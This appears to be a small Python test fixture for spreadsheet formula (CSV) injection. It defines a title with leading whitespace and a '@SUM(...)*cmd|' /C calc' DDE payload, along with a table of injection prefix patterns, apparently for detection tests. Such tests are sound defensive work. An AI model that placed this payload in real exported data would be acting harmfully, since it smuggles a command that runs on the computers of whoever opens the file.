"""A title that a spreadsheet runs although blanks stand before it."""

from hostile_kit import Told

CASE = Told(title="\t @SUM(1+1)*cmd|' /C calc'!A0", table=(",@SUM", ",\t@", '"\t', ",=", '"@SUM'))
